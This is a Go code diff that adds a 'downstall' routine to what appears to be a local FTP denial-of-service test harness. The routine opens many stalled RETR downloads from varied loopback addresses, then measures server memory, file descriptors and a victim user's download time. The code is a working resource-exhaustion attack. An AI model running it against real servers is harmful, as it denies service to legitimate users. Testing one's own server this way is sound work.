@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"fmt"
+	"io"
 	"net"
 	"os"
 	"strings"
@@ -146,4 +147,72 @@ func upstall(addr, pid string, n, ips int, dur time.Duration) {
 	fmt.Printf("  victim 20 MB STOR: %d after %v (%v)\n", code, d.Round(time.Millisecond), err)
 	wg.Wait()
 	fmt.Printf("upstall: attack over after %v; attacker uploads ended: %v\n", dur, codes)
+}
+
+// downstall: user demo stores a 64 MiB file, then n sessions from ips
+// addresses RETR it and never read. After wait: how many got 150 and how
+// many a refusal, the server's RSS and descriptors, and a victim's (user
+// victim, 127.0.0.200) RETR of the file.
+func downstall(addr, pid string, n, ips int, wait time.Duration) {
+	file := bytes.Repeat([]byte("0123456789abcdef"), 4<<20)
+	if _, code, err := stor(addr, "127.0.0.199", "demo", "demo", "dl.bin", file); code != 226 {
+		fmt.Println("setup:", code, err)
+		return
+	}
+	rss0, fd0 := rssKiB(pid), fds(pid)
+	var opened, refused atomic.Int64
+	var mu sync.Mutex
+	var hold []net.Conn
+	var wg sync.WaitGroup
+	for i := range n {
+		from := fmt.Sprintf("127.0.1.%d", 1+i%ips)
+		k, err := session(addr, from, "demo", "demo")
+		if err != nil {
+			fmt.Println("attacker:", err)
+			continue
+		}
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			k.wait = wait + 5*time.Second
+			d, err := k.startData("RETR dl.bin", from)
+			mu.Lock()
+			defer mu.Unlock()
+			hold = append(hold, k.c)
+			if err != nil {
+				refused.Add(1)
+				return
+			}
+			opened.Add(1)
+			hold = append(hold, d)
+		}()
+	}
+	time.Sleep(wait)
+	fmt.Printf("downstall: %d stalled downloads opened (150), %d refused, after %v; server RSS %s -> %s, descriptors %d -> %d\n",
+		opened.Load(), refused.Load(), wait, rss0, rssKiB(pid), fd0, fds(pid))
+	start := time.Now()
+	n64, code, err := func() (int64, int, error) {
+		k, err := session(addr, "127.0.0.200", "victim", "victim")
+		if err != nil {
+			return 0, 0, err
+		}
+		defer k.c.Close()
+		k.wait = time.Minute
+		d, err := k.startData("RETR dl.bin", "127.0.0.200")
+		if err != nil {
+			return 0, 0, err
+		}
+		n, _ := io.Copy(io.Discard, d)
+		d.Close()
+		code, _, err := k.read()
+		return n, code, err
+	}()
+	fmt.Printf("  victim RETR of the 64 MiB file during the stalled downloads: %d, %d bytes after %v (%v)\n",
+		code, n64, time.Since(start).Round(time.Millisecond), err)
+	wg.Wait()
+	mu.Lock()
+	for _, c := range hold {
+		c.Close()
+	}
+	mu.Unlock()
 }
